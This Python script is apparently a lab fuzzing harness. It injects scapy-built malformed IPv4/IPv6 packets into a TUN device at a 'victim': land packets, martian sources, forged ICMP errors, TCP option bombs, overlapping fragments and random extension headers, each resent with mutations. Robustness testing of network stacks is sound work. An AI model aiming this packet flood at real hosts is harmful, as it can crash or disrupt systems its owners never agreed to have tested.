#!/usr/bin/python3
"""Malformed packets straight into a TUN, within the namespace of a lab; called by attack.sh.

attack.py DEVICE SECONDS VICTIM CLIENT PORT   whatever comes out of scapy's fuzz() and of a random
    number generator goes into the device as it is, wrong checksums and lengths included
attack.py shovel VETH DEVICE VICTIM   what comes by VETH for VICTIM goes into DEVICE as it is: the
    kernel's router would keep the worst for itself
"""
import random
import socket
import sys
import time

if sys.argv[1] == "shovel":
    veth, device, victim = sys.argv[2:]
    source, out = (socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86dd)) for _ in range(2))
    source.bind((veth, 0x86dd))
    address = socket.inet_pton(socket.AF_INET6, victim)
    while True:
        data, (_, _, kind, *_) = source.recvfrom(65_536)
        if kind != socket.PACKET_OUTGOING and data[24:40] == address:
            try:
                out.sendto(data, (device, 0x86dd))
            except OSError:
                pass  # the device's queue is full

from scapy.all import (  # type: ignore[import-untyped]
    ICMP, IP, TCP, UDP, ICMPv6EchoRequest, ICMPv6PacketTooBig, ICMPv6ParamProblem, IPerror6, IPv6,
    IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, Raw,
    HBHOptUnknown, TCPerror, fragment, fuzz, raw)

device, seconds, victim, client, port = sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
v6 = ":" in victim
out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
to = (device, 0x86dd if v6 else 0x0800)


def ip(**fields):
    return IPv6(src=client, dst=victim, **fields) if v6 else IP(src=client, dst=victim, **fields)


def noise(most):
    return random.randbytes(random.randrange(most))


def mutated(packet):
    data = bytearray(raw(packet))
    for _ in range(random.randrange(1, 8)):
        data[random.randrange(len(data))] = random.randrange(256)
    return bytes(data[:random.randrange(1, len(data) + 1)] if random.random() < 0.2 else data)


def tcp():
    return ip() / fuzz(TCP(dport=port, sport=random.randrange(1, 65536), dataofs=None)) / Raw(noise(100))


def tcp_options():
    # An option bomb: more of them than a segment should have, of any kind and length.
    segment = bytearray(raw(TCP(dport=port, sport=random.randrange(1, 65536), flags=random.randrange(256))))
    options = random.randbytes(40)
    segment[12] = 0xf0
    return ip(**({"nh": 6} if v6 else {"proto": 6})) / Raw(bytes(segment) + options)


def udp():
    return ip() / fuzz(UDP(dport=random.randrange(65536))) / Raw(noise(1200))


def land():
    packet = ip() / TCP(dport=port, sport=port, flags="S")
    packet.src = victim
    return packet


def martian():
    sources = ["::1", "::", "ff02::1", "::ffff:1.2.3.4"] if v6 else ["127.0.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255"]
    packet = ip() / TCP(dport=port, flags="S")
    packet.src = random.choice(sources)
    return packet


def icmp():
    if not v6:
        return ip() / fuzz(ICMP()) / Raw(noise(300))
    quoted = IPerror6(src=victim, dst=client) / TCPerror(sport=port, dport=random.randrange(65536), seq=random.randrange(1 << 32))
    return ip() / random.choice([
        fuzz(ICMPv6EchoRequest()) / Raw(noise(300)),
        ICMPv6PacketTooBig(mtu=random.randrange(1 << 32)) / quoted,
        ICMPv6ParamProblem(code=random.randrange(256), ptr=random.randrange(1 << 32)) / quoted,
    ])


def forged():
    # RFC 5927: errors about connections that there may be.
    if v6:
        return icmp()
    quoted = IP(src=victim, dst=client) / TCP(sport=port, dport=random.randrange(65536), seq=random.randrange(1 << 32))
    return ip() / ICMP(type=3, code=random.randrange(16), nexthopmtu=random.randrange(1 << 16)) / quoted


def overlapping():
    number = random.randrange(1 << 16)
    for _ in range(random.randrange(2, 6)):
        at, more, data = random.randrange(0, 200), random.randrange(2), noise(400) + b"12345678"
        if v6:
            yield IPv6(src=client, dst=victim) / IPv6ExtHdrFragment(nh=17, offset=at, m=more, id=number) / Raw(data)
        else:
            yield IP(src=client, dst=victim, proto=17, id=number, frag=at, flags=more) / Raw(data)


def fragments():
    if v6:
        number = random.randrange(1 << 32)
        packet = raw(UDP(dport=9) / Raw(bytes(3000)))
        for at in range(0, len(packet), 1200):
            more = at + 1200 < len(packet)
            yield IPv6(src=client, dst=victim) / IPv6ExtHdrFragment(nh=17, offset=at // 8, m=more, id=number) / Raw(packet[at:at + 1200])
    else:
        yield from fragment(IP(src=client, dst=victim) / UDP(dport=9) / Raw(bytes(3000)), 1200)


def headers():
    if not v6:
        # Random options of a right length, in a header with a right checksum.
        options = random.randbytes(4 * random.randrange(1, 11))
        packet = bytearray(raw(IP(src=client, dst=victim, ihl=5 + len(options) // 4, len=28 + len(options), chksum=0)))
        packet += options
        total = sum(int.from_bytes(packet[at:at + 2], "big") for at in range(0, len(packet), 2))
        packet[10:12] = (~(total % 0xffff) & 0xffff).to_bytes(2, "big")
        return Raw(bytes(packet) + raw(UDP(dport=9)))
    packet = ip()
    for _ in range(random.randrange(1, 12)):
        packet /= random.choice([
            IPv6ExtHdrHopByHop(options=[HBHOptUnknown(otype=random.randrange(256), optdata=noise(20))]),
            IPv6ExtHdrDestOpt(options=[PadN(optdata=noise(20)), HBHOptUnknown(otype=random.randrange(256))]),
            IPv6ExtHdrRouting(type=random.randrange(5), segleft=random.randrange(3)),
            IPv6ExtHdrFragment(offset=random.randrange(3), m=random.randrange(2), id=random.randrange(9)),
        ])
    return packet / TCP(dport=port, flags="S")


def garbage():
    return Raw(bytes([0x60 if v6 else 0x45]) + noise(1400))


kinds = [tcp, tcp_options, udp, land, martian, icmp, forged, overlapping, fragments, headers, garbage]
sent, end = 0, time.monotonic() + seconds
# scapy is slow: each packet it makes goes out as it is and a hundred times with changes.
while time.monotonic() < end:
    made = random.choice(kinds)()
    for packet in made if hasattr(made, "__next__") else [made]:
        try:
            data = raw(packet)
            out.sendto(data, to)
            for _ in range(100):
                out.sendto(mutated(packet), to)
            sent += 101
        except OSError:
            # The device's queue is full, or the packet larger than its MTU.
            pass
print(f"scapy: {sent} packets")
